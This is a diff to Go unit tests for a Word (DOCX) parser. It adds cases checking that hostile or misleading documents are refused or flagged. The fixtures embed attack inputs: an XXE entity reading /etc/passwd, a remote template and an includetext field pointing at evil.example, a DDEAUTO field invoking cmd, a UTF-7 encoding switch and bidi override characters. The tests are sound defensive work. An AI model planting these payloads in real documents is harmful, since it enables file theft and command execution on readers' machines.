@@ -102,6 +102,7 @@ func TestHostileDocumentsAreRefused(t *testing.T) {
 		{"an entity from outside", repacked(t, good, map[string]string{"word/document.xml": strings.Replace(text, "<w:document", `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document`, 1)}), "defines a document type"},
 		{"entities of entities", repacked(t, good, map[string]string{"customXml/item1.xml": `<!DOCTYPE a [<!ENTITY a "aa">]><agreement xmlns="` + docx.SourceNamespace + `">&a;</agreement>`}), "defines a document type"},
 		{"an unknown entity", within(t, good, "<w:p>&x;</w:p>"), "is not XML"},
+		{"another encoding", repacked(t, good, map[string]string{"word/document.xml": strings.Replace(text, `encoding="UTF-8"`, `encoding="UTF-7"`, 1)}), "a document is in UTF-8"},
 		{"broken XML", within(t, good, "<w:p>"), "is not XML"},
 		{"deep nesting", within(t, good, strings.Repeat("<w:sdt>", 300)+strings.Repeat("</w:sdt>", 300)), "nests more than 256 elements deep"},
 		{"a template from outside", related(t, good, `<Relationship Id="x" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`), "it uses something from outside of it"},
@@ -144,7 +145,7 @@ func flipped(file []byte) []byte {
 }
 
 // What a text alone cannot say is told apart: pictures, notes, words that are hidden or struck out by hand,
-// a box that stores something else than it shows, text boxes, and a link that somebody may follow is none.
+// a box that stores something else than it shows, text boxes, words that a field computes, and a link that somebody may follow is none.
 func TestWhatATextCannotSayIsTold(t *testing.T) {
 	good := docxOf(t, documenttest.Sample(), nil)
 	run := func(look, text string) string {
@@ -156,6 +157,11 @@ func TestWhatATextCannotSayIsTold(t *testing.T) {
 		{"hidden", run("<w:vanish/>", "psst"), "", "hidden words: “psst”"},
 		{"not struck", run(`<w:strike w:val="0"/>`, "here"), "here", ""},
 		{"a picture", `<w:p><w:r><w:t>see </w:t><w:drawing/></w:r></w:p>`, "see", "a picture or text box"},
+		{"a field that computes", `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "/k x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>thirty</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+			"thirty", "words that a field computes: DDEAUTO"},
+		{"a field in one piece", `<w:p><w:fldSimple w:instr=" includetext &quot;//evil.example/x&quot; "><w:r><w:t>thirty</w:t></w:r></w:fldSimple></w:p>`, "thirty", "words that a field computes: includetext"},
+		{"a field in a field", `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/><w:t>x</w:t></w:r></w:p>`, "x", "words that a field computes: IF"},
+		{"a field that points", `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> REF a \h </w:instrText><w:fldChar w:fldCharType="separate"/><w:t>6.3</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "6.3", ""},
 		{"a box that lies", `<w:p><w:sdt><w:sdtPr><w14:checkbox><w14:checked w14:val="1"/></w14:checkbox></w:sdtPr><w:sdtContent><w:r><w:t>☐</w:t></w:r></w:sdtContent></w:sdt><w:r><w:tab/><w:t>Yes</w:t></w:r></w:p>`,
 			"☐ Yes", "a tick box that shows something else than it stores"},
 		{"marks that reorder", run("", "pay \u202e001 \u202cnow"), "pay ⟨U+202E⟩001 ⟨U+202C⟩now", ""},
